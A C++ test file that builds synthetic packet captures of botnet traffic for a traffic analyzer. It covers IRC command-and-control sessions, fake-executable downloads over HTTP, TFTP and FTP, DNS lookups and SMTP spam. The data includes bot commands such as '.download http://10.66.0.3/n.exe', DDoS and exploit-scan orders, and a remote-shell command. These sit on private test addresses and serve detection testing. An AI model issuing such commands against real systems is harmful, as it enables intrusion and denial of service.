#include "pcap/cases.h"

#include <algorithm>
#include <array>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "support/bot_traffic.h"

namespace botscope::testing::pcap_cases {

namespace {

using analysis::Direction;
using analysis::kTcpAck;

constexpr Direction kOrig = Direction::kOrig;
constexpr Direction kResp = Direction::kResp;

// mIRC formatting codes, which bot herders put in topics and commands.
constexpr char kColour = '\x03';
constexpr char kBold = '\x02';
constexpr char kPlain = '\x0f';

// 2006-01-01 00:00:00 UTC: the era the samples come from, so timestamps in reports look right.
constexpr Timestamp kEpoch = 1136073600 * kSecond;

void put16(Bytes& b, std::uint16_t v) {
    b.push_back(static_cast<std::uint8_t>(v >> 8));
    b.push_back(static_cast<std::uint8_t>(v));
}

void append(Bytes& b, std::string_view s) {
    b.insert(b.end(), s.begin(), s.end());
}

std::string as_string(const Bytes& b) {
    return {b.begin(), b.end()};
}

[[noreturn]] void broken_case(const char* what) {
    std::fprintf(stderr, "pcap cases: %s\n", what);
    std::abort();
}

std::string base64(std::string_view in) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    for (std::size_t i = 0; i < in.size(); i += 3) {
        std::uint32_t v = static_cast<std::uint8_t>(in[i]) << 16;
        if (i + 1 < in.size())
            v |= static_cast<std::uint32_t>(static_cast<std::uint8_t>(in[i + 1])) << 8;
        if (i + 2 < in.size())
            v |= static_cast<std::uint8_t>(in[i + 2]);
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += i + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=';
        out += i + 2 < in.size() ? kAlphabet[v & 63] : '=';
    }
    return out;
}

// ---------------------------------------------------------------------------------------------
// TCP segments written out of order.

struct Piece {
    std::size_t off = 0;
    std::size_t len = 0;
};

/// Cuts `total` bytes into pieces of the given sizes; the last piece takes whatever is left.
std::vector<Piece> cut(std::size_t total, std::initializer_list<std::size_t> sizes) {
    std::vector<Piece> out;
    std::size_t off = 0;
    for (std::size_t s : sizes) {
        if (off + s >= total)
            broken_case("cut sizes exceed the data");
        out.push_back({off, s});
        off += s;
    }
    out.push_back({off, total - off});
    return out;
}

/// The pieces in the order given by their indices; an index listed twice is a retransmission.
std::vector<Piece> in_order(const std::vector<Piece>& pieces, std::initializer_list<int> order) {
    std::vector<Piece> out;
    for (int i : order)
        out.push_back(pieces.at(static_cast<std::size_t>(i)));
    return out;
}

/// Writes `data` from `dir` as the segments `pieces` (offsets relative to the data's start),
/// in the order listed, then the other side's ACK of all of it. Every byte must be covered,
/// or the case would test a gap it does not mean to.
void put_pieces(TcpConversation& c, Direction dir, std::string_view data,
                const std::vector<Piece>& pieces) {
    std::vector<bool> covered(data.size(), false);
    const std::uint64_t base = c.sent(dir);
    for (const Piece& p : pieces) {
        if (p.off + p.len > data.size())
            broken_case("piece beyond the data");
        c.put(c.segment(dir, base + p.off, data.substr(p.off, p.len)));
        std::fill_n(covered.begin() + static_cast<std::ptrdiff_t>(p.off), p.len, true);
    }
    if (std::find(covered.begin(), covered.end(), false) != covered.end())
        broken_case("pieces leave a hole");
    c.skip(dir, data.size());
    Direction other = analysis::opposite(dir);
    c.put(c.segment(other, c.sent(other), "", kTcpAck));
}

// ---------------------------------------------------------------------------------------------
// DNS messages.

constexpr std::uint16_t kTypeA = 1;
constexpr std::uint16_t kTypeTxt = 16;

Bytes a_rdata(std::string_view addr) {
    IpAddress a = ip(addr);
    return Bytes(a.bytes.begin(), a.bytes.begin() + 4);
}

Bytes txt_rdata(std::string_view text) {
    if (text.size() > 255)
        broken_case("TXT string longer than 255 bytes");
    Bytes b{static_cast<std::uint8_t>(text.size())};
    append(b, text);
    return b;
}

constexpr std::uint16_t kDnsQuery = 0x0100;     // RD
constexpr std::uint16_t kDnsAnswer = 0x8180;    // QR, RD, RA, NOERROR
constexpr std::uint16_t kDnsNxdomain = 0x8183;  // QR, RD, RA, NXDOMAIN

Bytes with_tcp_length(const Bytes& msg) {
    Bytes b;
    put16(b, static_cast<std::uint16_t>(msg.size()));
    b.insert(b.end(), msg.begin(), msg.end());
    return b;
}

// ---------------------------------------------------------------------------------------------
// A plain IRC bot session, shared by the cases that vary only the link layer or file format.

struct IrcScript {
    Endpoint client;
    Endpoint server;
    std::string server_name;
    std::string nick;
    std::string user;
    std::string channel;
    std::string topic;
    std::string op;
    std::string command;
    std::string reply;
};

void write_irc_session(CaptureWriter& w, Timestamp start, const IrcScript& s,
                       Timestamp step = kMilli) {
    TcpConversation c(w, s.client, s.server, start, 0x3c1a2b00, 0x9e000000);
    c.set_step(step);
    const std::string srv = ":" + s.server_name + " ";
    c.handshake();
    c.send(kResp, srv + "NOTICE AUTH :*** Looking up your hostname...\r\n");
    c.send(kOrig, "NICK " + s.nick + "\r\nUSER " + s.user + " 0 0 :" + s.user + "\r\n");
    c.send(kResp, srv + "001 " + s.nick + " :Welcome\r\n" + srv + "376 " + s.nick +
                      " :End of /MOTD command.\r\n");
    c.send(kOrig, "JOIN " + s.channel + "\r\n");
    c.send(kResp, ":" + s.nick + "!" + s.user + "@" + s.client.addr.to_string() +
                      " JOIN :" + s.channel + "\r\n" + srv + "332 " + s.nick + " " + s.channel +
                      " :" + s.topic + "\r\n");
    c.advance(3 * kSecond);
    c.send(kResp, ":" + s.op + "!" + s.op + "@" + s.server.addr.to_string() + " PRIVMSG " +
                      s.channel + " :" + s.command + "\r\n");
    c.send(kOrig, "PRIVMSG " + s.channel + " :" + s.reply + "\r\n");
    c.send(kResp, "PING :" + s.server_name + "\r\n");
    c.send(kOrig, "PONG :" + s.server_name + "\r\n");
    c.close();
}

// ---------------------------------------------------------------------------------------------
// The cases.

CaseCapture irc_split_reordered() {
    CaseCapture out;
    CaptureWriter& w = out.writer;
    const std::string srv = ":cnc.botscope.test ";

    // Bot A: PASS, a nick full of brackets and pipes, JOIN with channel and key lists, a
    // coloured topic command. Most lines arrive cut at odd places.
    {
        const std::string nick = "[JPN|XP|SP2]-04821";
        TcpConversation c(w, ep("10.66.0.21", 1101), ep("10.66.0.2", 51987), kEpoch, 0x5a5a0000,
                          0xfffffe00);  // the server's sequence numbers wrap mid-session
        c.handshake();
        c.send(kResp, srv + "NOTICE AUTH :*** Looking up your hostname...\r\n");

        std::string login = "PASS g0tr00t\r\nNICK " + nick + "\r\nUSER xpjp 0 0 :xpjp\r\n";
        put_pieces(c, kOrig, login,
                   in_order(cut(login.size(), {5, 11, 3, 13, 7}), {0, 2, 1, 3, 3, 5, 4}));

        std::string welcome = srv + "001 " + nick + " :Welcome to the botscope test network\r\n" +
                              srv + "376 " + nick + " :End of /MOTD command.\r\n";
        put_pieces(c, kResp, welcome, in_order(cut(welcome.size(), {37, 29}), {1, 0, 2}));

        std::string join = "JOIN #ddos,#spread k3y,s3cr3t\r\n";
        put_pieces(c, kOrig, join, in_order(cut(join.size(), {9, 4}), {0, 2, 1, 1}));

        std::string joined = ":" + nick + "!xpjp@10.66.0.21 JOIN :#ddos\r\n:" + nick +
                             "!xpjp@10.66.0.21 JOIN :#spread\r\n" + srv + "332 " + nick +
                             " #ddos :" + kColour + "4,1.ddos.syn " + kBold + "10.66.0.50" + kBold +
                             " 80 60" + kPlain + "\r\n" + srv + "333 " + nick +
                             " #ddos h4x0r 1136073600\r\n";
        // Cut so that the colour code itself straddles two segments. Pieces 2 and 3 are also
        // resent as one larger segment, as a sender that repacketises does, which arrives
        // while piece 3 waits for the hole before it: it fills the hole and overlaps piece 3.
        std::size_t colour = joined.find(kColour);
        auto pieces = cut(joined.size(), {23, 41, colour + 2 - 64, 19, 33});
        auto order = in_order(pieces, {0, 1, 3, 2, 5, 4});
        order.insert(order.begin() + 3, Piece{pieces[2].off, pieces[2].len + pieces[3].len});
        put_pieces(c, kResp, joined, order);

        c.advance(4 * kSecond);
        std::string command = ":h4x0r!h4x@10.66.0.2 PRIVMSG #ddos :.sysinfo\r\n";
        put_pieces(c, kResp, command, in_order(cut(command.size(), {11, 20}), {2, 0, 1}));

        std::string reply =
            "PRIVMSG #ddos :[SYSINFO]: cpu: 2400MHz. ram: 511MB. os: WinXP (SP2). uptime: 0d 3h "
            "12m.\r\n";
        put_pieces(c, kOrig, reply, in_order(cut(reply.size(), {16, 1, 30}), {0, 1, 3, 2, 2}));

        c.send(kResp, "PING :cnc.botscope.test\r\n");
        c.send(kOrig, "PONG :cnc.botscope.test\r\n");
        c.close();
    }

    // Bot B: no PASS, the nick's braces, caret and backslash, and a private command.
    {
        const std::string nick = "{USA}|^bot\\-1";
        TcpConversation c(w, ep("10.66.0.22", 1102), ep("10.66.0.2", 51987), kEpoch + 10 * kSecond,
                          0x00100000, 0x7f000000);
        c.handshake();
        std::string login = "NICK " + nick + "\r\nUSER usbot 0 0 :usbot\r\n";
        put_pieces(c, kOrig, login,
                   in_order(cut(login.size(), {6, 1, 1, 1, 1, 7}), {0, 1, 3, 2, 4, 6, 5}));
        c.send(kResp, srv + "001 " + nick + " :Welcome to the botscope test network\r\n" + srv +
                          "376 " + nick + " :End of /MOTD command.\r\n");
        c.send(kOrig, "JOIN #usa\r\n");
        std::string joined = ":" + nick + "!usbot@10.66.0.22 JOIN :#usa\r\n" + srv + "332 " + nick +
                             " #usa :" + kColour + "12.http.download http://10.66.0.2/x.exe" +
                             kColour + "\r\n";
        put_pieces(c, kResp, joined, in_order(cut(joined.size(), {50, 5}), {0, 2, 1}));
        c.advance(2 * kSecond);
        std::string command = ":h4x0r!h4x@10.66.0.2 PRIVMSG " + nick + " :.version\r\n";
        put_pieces(c, kResp, command, in_order(cut(command.size(), {30}), {1, 0, 0}));
        c.send(kOrig, "PRIVMSG h4x0r :[MAIN]: rBot v0.3.3 ready.\r\n");
        c.close();
    }
    return out;
}

CaseCapture irc_midstream_gap() {
    CaseCapture out;
    const std::string op = ":h4x0r!h4x@10.66.0.3 PRIVMSG #scan :";
    // No handshakes: the capture was started while both bots were already talking to their
    // server. The first connection's first captured line is the server's.
    {
        TcpConversation c(out.writer, ep("10.66.0.31", 1201), ep("10.66.0.3", 6667), kEpoch,
                          0x11223344, 0x55667788);
        c.send(kResp, op + ".scan.stop\r\n");
        c.send(kOrig, "PRIVMSG #scan :[SCAN]: Scan stopped.\r\n");
        // Three segments of commands; the middle one never reached the capture. It ends one
        // command and starts the next, so the analyzer must find the next line start itself.
        c.send(kResp, op + ".ddos.udp 10.66.0.60 1434 120\r\n" + ":h4x0r!h4x@10.66.0.3 PRIV");
        c.skip(kResp, std::string_view("MSG #scan :.ddos.stop\r\n").size() + op.size() +
                          std::string_view(".remo").size());
        c.send(kResp, "ve\r\n" + op + ".download http://10.66.0.3/n.exe c:\\n.exe 1\r\n" + op +
                          ".sysinfo\r\n");
        c.send(kOrig, "PRIVMSG #scan :[DOWNLOAD]: Downloading URL: http://10.66.0.3/n.exe\r\n");
        c.send(kResp, "PING :cnc.botscope.test\r\n");
        c.send(kOrig, "PONG :cnc.botscope.test\r\n");
    }
    // The second connection's first captured line is the bot's own report: a client line
    // that never opens a session, yet is IRC all the same.
    {
        TcpConversation c(out.writer, ep("10.66.0.32", 1202), ep("10.66.0.3", 6667),
                          kEpoch + kSecond, 0x2468ace0, 0x13579bdf);
        c.send(kOrig, "PRIVMSG #scan :[SCAN]: Exploit statistics: dcom135: 0, lsass445: 2\r\n");
        c.send(kResp, op + ".scan.stop\r\n");
        c.send(kOrig, "PRIVMSG #scan :[SCAN]: Scan stopped.\r\n");
    }
    return out;
}

CaseCapture irc_ipv6_vlan_pcapng() {
    // TcpConversation writes through add_ip without a tag, so the packets are made on a raw IP
    // link first and then framed again with the 802.1Q tag.
    CaptureWriter raw(analysis::kLinkRaw);
    write_irc_session(raw, kEpoch,
                      {.client = ep("2001:db8:66::10", 49200),
                       .server = ep("2001:db8:66::1", 6667),
                       .server_name = "irc6.botscope.test",
                       .nick = "[DEU|XP|SP2]-11502",
                       .user = "dexp",
                       .channel = "#v6",
                       .topic = ".advscan lsass 100 5 0 -r",
                       .op = "h4x0r",
                       .command = ".login s3cret",
                       .reply = "[MAIN]: Password accepted."});
    CaseCapture out{CaptureWriter(analysis::kLinkEthernet), FileFormat::kPcapng};
    for (const Frame& f : raw.frames())
        out.writer.add_ip(f.ts, f.data, 66);
    return out;
}

CaseCapture irc_linux_sll2() {
    CaseCapture out{CaptureWriter(analysis::kLinkSll2), FileFormat::kPcapBeNsec};
    // A step that is not a whole number of microseconds, so the nanoseconds matter.
    write_irc_session(out.writer, kEpoch + 123456789,
                      {.client = ep("10.66.0.41", 1301),
                       .server = ep("10.66.0.4", 6668),
                       .server_name = "irc.botscope.test",
                       .nick = "[GBR|2K|SP4]-90210",
                       .user = "gb2k",
                       .channel = "#sll",
                       .topic = ".ddos.ack 10.66.0.51 445 30",
                       .op = "h4x0r",
                       .command = ".opencmd",
                       .reply = "[CMD]: Remote shell ready."},
                      kMilli + 333);
    return out;
}

CaseCapture http_download() {
    CaseCapture out;
    TcpConversation c(out.writer, ep("10.66.0.71", 1601), ep("10.66.0.7", 80), kEpoch);
    c.handshake();
    const std::string ua = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)";
    // Both requests in one segment: the bot pipelines without waiting for the first answer.
    c.send(kOrig, "GET /bins/sys32.exe HTTP/1.1\r\nHost: upd.botscope.test\r\nUser-Agent: " + ua +
                      "\r\nAccept: */*\r\nConnection: Keep-Alive\r\n\r\n"
                      "GET /cfg/list.txt HTTP/1.1\r\nHost: upd.botscope.test\r\nUser-Agent: " +
                      ua + "\r\n\r\n");

    const std::string pe = as_string(fake_pe(3320));
    std::string resp =
        "HTTP/1.1 200 OK\r\nServer: Apache/2.0.54\r\nContent-Type: application/octet-stream\r\n"
        "Transfer-Encoding: chunked\r\n\r\n";
    resp += "800\r\n" + pe.substr(0, 2048) + "\r\n";
    resp += "4b0;src=mirror2\r\n" + pe.substr(2048, 1200) + "\r\n";
    resp += "48\r\n" + pe.substr(3248) + "\r\n0\r\n\r\n";
    const std::string list = "10.66.0.50\r\n10.66.0.51\r\n10.66.0.52\r\n";
    resp +=
        "HTTP/1.1 200 OK\r\nServer: Apache/2.0.54\r\nContent-Type: text/plain\r\n"
        "Content-Length: " +
        std::to_string(list.size()) + "\r\n\r\n" + list;
    // Segment boundaries fall inside chunk headers and between the two responses.
    c.send_segments(kResp, resp, 1000);
    c.close();
    return out;
}

CaseCapture dns_udp_tcp() {
    CaseCapture out;
    CaptureWriter& w = out.writer;
    const Endpoint resolver = ep("10.66.0.8", 53);
    const Endpoint bot = ep("10.66.0.81", 1701);
    Timestamp t = kEpoch;

    // 1. A over UDP, answered.
    w.add_ip(
        t, udp_packet(bot, resolver, dns_message(0x3a11, kDnsQuery, "cnc.botscope.test", kTypeA)));
    w.add_ip(t + 3 * kMilli, udp_packet(resolver, bot,
                                        dns_message(0x3a11, kDnsAnswer, "cnc.botscope.test", kTypeA,
                                                    {{kTypeA, 300, a_rdata("10.66.0.2")}})));
    t += 100 * kMilli;

    // 2. TXT over TCP (a configuration string), each message behind its 2-byte length; the
    // response is cut so that the length and the message arrive in different segments.
    {
        TcpConversation c(w, ep("10.66.0.81", 1702), resolver, t);
        c.handshake();
        c.send(kOrig, as_string(with_tcp_length(
                          dns_message(0x3a12, kDnsQuery, "cfg.botscope.test", kTypeTxt))));
        std::string resp = as_string(with_tcp_length(
            dns_message(0x3a12, kDnsAnswer, "cfg.botscope.test", kTypeTxt,
                        {{kTypeTxt, 60, txt_rdata("v=1 .ddos.syn 10.66.0.50 80 60")}})));
        put_pieces(c, kResp, resp, cut(resp.size(), {1, 30}));
        c.close();
        t = c.now() + 100 * kMilli;
    }

    // 3. A generated name that does not exist, as a domain-generation algorithm tries.
    w.add_ip(t, udp_packet(bot, resolver,
                           dns_message(0x3a13, kDnsQuery, "xkqzvbnw.botscope.test", kTypeA)));
    w.add_ip(t + 2 * kMilli,
             udp_packet(resolver, bot,
                        dns_message(0x3a13, kDnsNxdomain, "xkqzvbnw.botscope.test", kTypeA)));
    t += 100 * kMilli;

    // 4. A query nobody answers, repeated once by the bot's resolver library.
    Bytes lost = dns_message(0x3a14, kDnsQuery, "backup.botscope.test", kTypeA);
    w.add_ip(t, udp_packet(bot, resolver, lost));
    w.add_ip(t + kSecond, udp_packet(bot, resolver, lost));
    return out;
}

CaseCapture smtp_spam_auth() {
    CaseCapture out;
    TcpConversation c(out.writer, ep("10.66.0.51", 1401), ep("10.66.0.5", 25), kEpoch);
    c.handshake();
    c.send(kResp, "220 mx.botscope.test ESMTP ready\r\n");
    c.send(kOrig, "EHLO kqwjzt\r\n");
    c.send(kResp,
           "250-mx.botscope.test\r\n250-AUTH LOGIN PLAIN\r\n250-SIZE 10240000\r\n"
           "250 8BITMIME\r\n");
    c.send(kOrig, "AUTH LOGIN\r\n");
    c.send(kResp, "334 VXNlcm5hbWU6\r\n");
    c.send(kOrig, base64("sales@shop.example") + "\r\n");
    c.send(kResp, "334 UGFzc3dvcmQ6\r\n");
    c.send(kOrig, base64("pa55w0rd") + "\r\n");
    c.send(kResp, "235 2.7.0 Authentication successful\r\n");

    // Message 1: three recipients, one unknown, and an attachment.
    c.send(kOrig, "MAIL FROM:<sales@shop.example>\r\n");
    c.send(kResp, "250 2.1.0 Ok\r\n");
    c.send(kOrig, "RCPT TO:<alice@mail.example>\r\n");
    c.send(kResp, "250 2.1.5 Ok\r\n");
    c.send(kOrig, "RCPT TO:<nobody@mail.example>\r\n");
    c.send(kResp, "550 5.1.1 <nobody@mail.example>: Recipient address rejected: User unknown\r\n");
    c.send(kOrig, "RCPT TO:<bob@mail.example>\r\n");
    c.send(kResp, "250 2.1.5 Ok\r\n");
    c.send(kOrig, "DATA\r\n");
    c.send(kResp, "354 End data with <CR><LF>.<CR><LF>\r\n");
    std::string msg1 =
        "From: \"Shop Sales\" <sales@shop.example>\r\n"
        "To: alice@mail.example\r\n"
        "Subject: Your invoice #4471\r\n"
        "Message-ID: <20060101120000.4471@shop.example>\r\n"
        "Date: Sun, 1 Jan 2006 12:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"----=_NextPart_000_0001\"\r\n"
        "\r\n"
        "This is a multi-part message in MIME format.\r\n"
        "\r\n"
        "------=_NextPart_000_0001\r\n"
        "Content-Type: text/plain; charset=us-ascii\r\n"
        "\r\n"
        "Please see the attached invoice.\r\n"
        "\r\n"
        "------=_NextPart_000_0001\r\n"
        "Content-Type: application/octet-stream; name=\"invoice.scr\"\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "Content-Disposition: attachment; filename=\"invoice.scr\"\r\n"
        "\r\n" +
        base64(as_string(fake_pe(600)).substr(0, 57)) +
        "\r\n"
        "\r\n"
        "------=_NextPart_000_0001--\r\n"
        ".\r\n";
    c.send_segments(kOrig, msg1, 333);
    c.send(kResp, "250 2.0.0 Ok: queued as 4471A\r\n");

    // Message 2: two recipients, plain text.
    c.send(kOrig, "MAIL FROM:<news@shop.example>\r\n");
    c.send(kResp, "250 2.1.0 Ok\r\n");
    c.send(kOrig, "RCPT TO:<carol@mail.example>\r\n");
    c.send(kResp, "250 2.1.5 Ok\r\n");
    c.send(kOrig, "RCPT TO:<dave@mail.example>\r\n");
    c.send(kResp, "250 2.1.5 Ok\r\n");
    c.send(kOrig, "DATA\r\n");
    c.send(kResp, "354 End data with <CR><LF>.<CR><LF>\r\n");
    c.send(kOrig,
           "From: news@shop.example\r\n"
           "To: carol@mail.example\r\n"
           "Subject: Cheap meds online\r\n"
           "Message-ID: <20060101120500.9922@shop.example>\r\n"
           "\r\n"
           "Best prices.\r\n"
           ".\r\n");
    c.send(kResp, "250 2.0.0 Ok: queued as 9922B\r\n");
    c.send(kOrig, "QUIT\r\n");
    c.send(kResp, "221 2.0.0 Bye\r\n");
    c.close();
    return out;
}

Bytes tftp_packet(std::uint16_t opcode, std::initializer_list<std::string_view> fields) {
    Bytes b;
    put16(b, opcode);
    for (std::string_view f : fields) {
        append(b, f);
        b.push_back(0);
    }
    return b;
}

CaseCapture tftp_worm_fetch() {
    CaseCapture out;
    CaptureWriter& w = out.writer;
    const Endpoint bot = ep("10.66.0.61", 1501);
    const Endpoint server = ep("10.66.0.6", 69);
    const Endpoint data_port = ep("10.66.0.6", 3002);  // the server answers from a new port
    const Bytes file = fake_pe(2548);
    Timestamp t = kEpoch;

    w.add_ip(t,
             udp_packet(bot, server,
                        tftp_packet(1, {"msnsvc.exe", "octet", "blksize", "1024", "tsize", "0"})));
    t += 2 * kMilli;
    w.add_ip(t, udp_packet(data_port, bot, tftp_packet(6, {"blksize", "1024", "tsize", "2548"})));
    t += kMilli;
    w.add_ip(t, udp_packet(bot, data_port, Bytes{0, 4, 0, 0}));
    t += kMilli;

    auto data = [&](std::uint16_t block) {
        std::size_t off = std::size_t{block - 1u} * 1024;
        std::size_t len = std::min<std::size_t>(1024, file.size() - off);
        Bytes b;
        put16(b, 3);
        put16(b, block);
        b.insert(b.end(), file.begin() + static_cast<std::ptrdiff_t>(off),
                 file.begin() + static_cast<std::ptrdiff_t>(off + len));
        w.add_ip(t, udp_packet(data_port, bot, b));
        t += kMilli;
    };
    auto ack = [&](std::uint16_t block) {
        Bytes b;
        put16(b, 4);
        put16(b, block);
        w.add_ip(t, udp_packet(bot, data_port, b));
        t += kMilli;
    };
    data(1);
    ack(1);
    data(2);
    // The ACK of block 2 is slow: the server times out and sends the block again.
    t += kSecond;
    data(2);
    ack(2);
    data(3);
    ack(3);
    return out;
}

CaseCapture ftp_update() {
    CaseCapture out;
    CaptureWriter& w = out.writer;
    TcpConversation ctl(w, ep("10.66.0.52", 1451), ep("10.66.0.12", 21), kEpoch);
    ctl.handshake();
    ctl.send(kResp, "220 ProFTPD 1.2.10 Server (botscope update mirror) [10.66.0.12]\r\n");
    ctl.send(kOrig, "USER upd4t3\r\n");
    ctl.send(kResp, "331 Password required for upd4t3.\r\n");
    ctl.send(kOrig, "PASS s3cr3t\r\n");
    ctl.send(kResp, "230 User upd4t3 logged in.\r\n");
    ctl.send(kOrig, "TYPE I\r\n");
    ctl.send(kResp, "200 Type set to I\r\n");
    ctl.send(kOrig, "PASV\r\n");
    ctl.send(kResp, "227 Entering Passive Mode (10,66,0,12,195,80).\r\n");  // port 50000
    ctl.send(kOrig, "RETR update.exe\r\n");
    ctl.send(kResp, "150 Opening BINARY mode data connection for update.exe (4096 bytes)\r\n");

    // The file comes over the passive data connection while the control connection waits.
    TcpConversation data(w, ep("10.66.0.52", 1452), ep("10.66.0.12", 50000), ctl.now());
    data.handshake();
    data.send_segments(kResp, as_string(fake_pe(4096)), 1460);
    data.close();
    ctl.advance(data.now() - ctl.now());

    ctl.send(kResp, "226 Transfer complete.\r\n");
    ctl.send(kOrig, "QUIT\r\n");
    ctl.send(kResp, "221 Goodbye.\r\n");
    ctl.close();
    return out;
}

CaseCapture ipv4_fragments() {
    CaseCapture out;
    CaptureWriter& w = out.writer;
    const Endpoint bot = ep("10.66.0.91", 1801);
    const Endpoint resolver = ep("10.66.0.9", 53);
    const std::string name = "spread.botscope.test";
    w.add_ip(kEpoch, udp_packet(bot, resolver, dns_message(0x4b01, kDnsQuery, name, kTypeTxt)));

    // Three TXT records make the response too big for one 192-byte fragment payload.
    std::vector<DnsRecord> records;
    for (char part : {'1', '2', '3'}) {
        std::string text = std::string("part") + part + " ";
        text.resize(140, part);
        records.push_back({kTypeTxt, 600, txt_rdata(text)});
    }
    Bytes udp = udp_packet(resolver, bot, dns_message(0x4b01, kDnsAnswer, name, kTypeTxt, records));
    // Rebuilt with a non-zero IP id, as a real sender fragmenting datagrams uses.
    Bytes packet = ip_packet(resolver.addr, bot.addr, 17,
                             std::span<const std::uint8_t>(udp).subspan(20), 0x4d2e);
    std::vector<Bytes> frags = fragment_ipv4(packet, 192);
    if (frags.size() != 3)
        broken_case("ipv4-fragments: expected three fragments");
    Timestamp t = kEpoch + 4 * kMilli;
    for (int i : {2, 0, 1}) {
        w.add_ip(t, frags[static_cast<std::size_t>(i)]);
        t += 100'000;
    }
    return out;
}

CaseCapture bot_commands_behaviour() {
    CaseCapture out;
    emulate_bot_session(out.writer, kEpoch);
    return out;
}

constexpr std::array kCases{
    CaseGenerator{"irc-split-reordered", &irc_split_reordered},
    CaseGenerator{"irc-midstream-gap", &irc_midstream_gap},
    CaseGenerator{"irc-ipv6-vlan-pcapng", &irc_ipv6_vlan_pcapng},
    CaseGenerator{"irc-linux-sll2", &irc_linux_sll2},
    CaseGenerator{"http-download", &http_download},
    CaseGenerator{"dns-udp-tcp", &dns_udp_tcp},
    CaseGenerator{"smtp-spam-auth", &smtp_spam_auth},
    CaseGenerator{"tftp-worm-fetch", &tftp_worm_fetch},
    CaseGenerator{"ftp-update", &ftp_update},
    CaseGenerator{"ipv4-fragments", &ipv4_fragments},
    CaseGenerator{"bot-commands-behaviour", &bot_commands_behaviour},
};

}  // namespace

std::span<const CaseGenerator> all_cases() {
    return kCases;
}

const CaseGenerator* find_case(std::string_view name) {
    for (const CaseGenerator& c : kCases)
        if (c.name == name)
            return &c;
    return nullptr;
}

std::optional<FileFormat> parse_file_format(std::string_view text) {
    if (text == "pcap-le-usec")
        return FileFormat::kPcapLeUsec;
    if (text == "pcap-be-usec")
        return FileFormat::kPcapBeUsec;
    if (text == "pcap-le-nsec")
        return FileFormat::kPcapLeNsec;
    if (text == "pcap-be-nsec")
        return FileFormat::kPcapBeNsec;
    if (text == "pcapng")
        return FileFormat::kPcapng;
    return std::nullopt;
}

}  // namespace botscope::testing::pcap_cases
